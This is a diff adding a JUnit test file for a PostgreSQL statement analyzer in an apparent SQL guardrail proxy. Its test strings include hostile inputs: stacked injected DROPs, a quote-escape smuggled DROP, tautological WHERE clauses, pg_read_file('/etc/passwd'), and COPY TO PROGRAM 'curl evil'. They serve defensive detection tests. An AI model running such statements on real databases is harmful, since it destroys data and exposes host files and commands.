@@ -1,0 +1,141 @@
+package dev.gatehouse.proxy.sql;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
+
+/** PostgreSQL's own parser, run in the JVM, reduced to what guardrails decide on. */
+class PostgresSqlAnalyzerTest {
+
+    private static final PostgresSqlAnalyzer ANALYZER = PostgresSqlAnalyzer.withDefaults();
+
+    @AfterAll
+    static void stop() {
+        ANALYZER.close();
+    }
+
+    private static SqlAnalysis analyze(String sql) {
+        return ANALYZER.analyzeNow(sql);
+    }
+
+    private static List<String> classes(String sql) {
+        return analyze(sql).statements().stream().map(s -> s.operations().toString()).toList();
+    }
+
+    @Test
+    void everyStatementOfAMultiStatementStringIsSeen() {
+        SqlAnalysis analysis = analyze("select * from t where a = 1; DROP TABLE x");
+        assertThat(analysis.statements()).hasSize(2);
+        assertThat(analysis.statements().get(0).text()).isEqualTo("select * from t where a = 1");
+        assertThat(analysis.statements().get(1).operations().get(0))
+                .isEqualTo(new Operation(StatementClass.DROP, ObjectKind.TABLE, List.of(new TableRef(null, "x")), false));
+    }
+
+    @Test
+    void backslashDoesNotEscapeAQuoteWithStandardConformingStrings() {
+        // PostgreSQL ends the string at the second quote: this is two statements, the second a DROP.
+        SqlAnalysis analysis = analyze("SELECT 'a\\'; drop table t; --'");
+        assertThat(analysis.statements()).extracting(AnalyzedStatement::statementClass)
+                .containsExactly(StatementClass.SELECT, StatementClass.DROP);
+    }
+
+    @Test
+    void nestedCommentsHideWhatIsInsideThem() {
+        assertThat(classes("select 1 /* /* */ drop table t */")).containsExactly("[SELECT]");
+    }
+
+    @Test
+    void writesInsideCtesAreOperations() {
+        AnalyzedStatement statement = analyze("WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d").statements().get(0);
+        assertThat(statement.operations()).extracting(Operation::statementClass)
+                .containsExactly(StatementClass.SELECT, StatementClass.DELETE);
+        assertThat(statement.operations().get(1).unboundedWrite()).isTrue();
+        assertThat(statement.operations().get(1).tables()).containsExactly(new TableRef(null, "accounts"));
+    }
+
+    @Test
+    void tautologicalWhereClausesAreUnbounded() {
+        for (String where : List.of("", " WHERE true", " WHERE 1=1", " WHERE 'a' = 'a'", " WHERE id = id", " WHERE NOT false",
+                " WHERE id > 5 OR 1 = 1", " WHERE 't'::boolean", " WHERE 2 > 1")) {
+            assertThat(analyze("DELETE FROM t" + where).statements().get(0).operations().get(0).unboundedWrite())
+                    .as(where).isTrue();
+        }
+        for (String where : List.of(" WHERE id = 1", " WHERE id = $1", " WHERE 1 = 2 OR id = 3", " WHERE CURRENT OF c")) {
+            assertThat(analyze("UPDATE t SET a = 1" + where).statements().get(0).operations().get(0).unboundedWrite())
+                    .as(where).isFalse();
+        }
+    }
+
+    @Test
+    void functionsAreFoundAnywhere() {
+        AnalyzedStatement statement = analyze(
+                "select coalesce((select pg_catalog.PG_READ_FILE('/etc/passwd')), 'x') from t where f(1) > lower(b)").statements().get(0);
+        // COALESCE is syntax in PostgreSQL, not a function call; the rest are calls.
+        assertThat(statement.functions()).containsExactlyInAnyOrder("pg_read_file", "f", "lower");
+    }
+
+    @Test
+    void copyToAProgramIsServerSide() {
+        assertThat(analyze("COPY t TO PROGRAM 'curl evil'").statements().get(0).serverSideCopy()).isTrue();
+        assertThat(analyze("copy t from '/etc/passwd'").statements().get(0).serverSideCopy()).isTrue();
+        assertThat(analyze("COPY t TO STDOUT").statements().get(0).serverSideCopy()).isFalse();
+    }
+
+    @Test
+    void unicodeEscapesAreResolvedAsPostgresDoes() {
+        AnalyzedStatement statement = analyze("DROP TABLE U&\"d\\0061ta\"").statements().get(0);
+        assertThat(statement.operations().get(0).tables()).containsExactly(new TableRef(null, "data"));
+    }
+
+    @Test
+    void explainAnalyzeRunsItsStatementButPlainExplainDoesNot() {
+        assertThat(classes("EXPLAIN DELETE FROM t")).containsExactly("[EXPLAIN]");
+        assertThat(analyze("EXPLAIN (ANALYZE) DELETE FROM t").statements().get(0).operations())
+                .extracting(Operation::statementClass).contains(StatementClass.DELETE);
+        assertThat(classes("EXPLAIN (ANALYZE false) DELETE FROM t")).containsExactly("[EXPLAIN]");
+    }
+
+    @Test
+    void doBlocksAreOpaqueAndDollarQuotedStringsAreJustStrings() {
+        AnalyzedStatement block = analyze("DO $x$ BEGIN EXECUTE 'drop table t'; END $x$").statements().get(0);
+        assertThat(block.statementClass()).isEqualTo(StatementClass.DO);
+        assertThat(block.opaqueCode()).isTrue();
+        assertThat(classes("SELECT $$DROP TABLE t$$")).containsExactly("[SELECT]");
+    }
+
+    @Test
+    void preparedStatementsCarryTheirBody() {
+        AnalyzedStatement prepare = analyze("PREPARE p(int) AS DELETE FROM t WHERE id = $1").statements().get(0);
+        assertThat(prepare.preparedName()).isEqualTo("p");
+        assertThat(prepare.operations()).extracting(Operation::statementClass).containsExactly(StatementClass.PREPARE, StatementClass.DELETE);
+        AnalyzedStatement execute = analyze("EXECUTE p(1)").statements().get(0);
+        assertThat(execute.statementClass()).isEqualTo(StatementClass.EXECUTE);
+        assertThat(execute.preparedName()).isEqualTo("p");
+    }
+
+    @Test
+    void syntaxErrorsComeBackAsPostgresWordsThem() {
+        SqlAnalysis analysis = analyze("SELEC 1");
+        assertThat(analysis.parsed()).isFalse();
+        assertThat(analysis.parseError()).isEqualTo("syntax error at or near \"SELEC\"");
+        assertThat(analysis.errorPosition()).isEqualTo(1);
+    }
+
+    @Test
+    void repeatedTextIsParsedOnce() {
+        String sql = "SELECT abalance FROM pgbench_accounts WHERE aid = $1 /* " + System.nanoTime() + " */";
+        long misses = ANALYZER.cacheMisses();
+        SqlAnalysis first = analyze(sql);
+        assertThat(ANALYZER.cached(sql)).isSameAs(first);
+        assertThat(analyze(sql)).isSameAs(first);
+        assertThat(ANALYZER.cacheMisses()).isEqualTo(misses + 1);
+    }
+
+    @Test
+    void alterTableDropColumnIsADrop() {
+        assertThat(analyze("ALTER TABLE t DROP COLUMN c").statements().get(0).operations())
+                .extracting(Operation::statementClass).containsExactly(StatementClass.ALTER, StatementClass.DROP);
+    }
+}
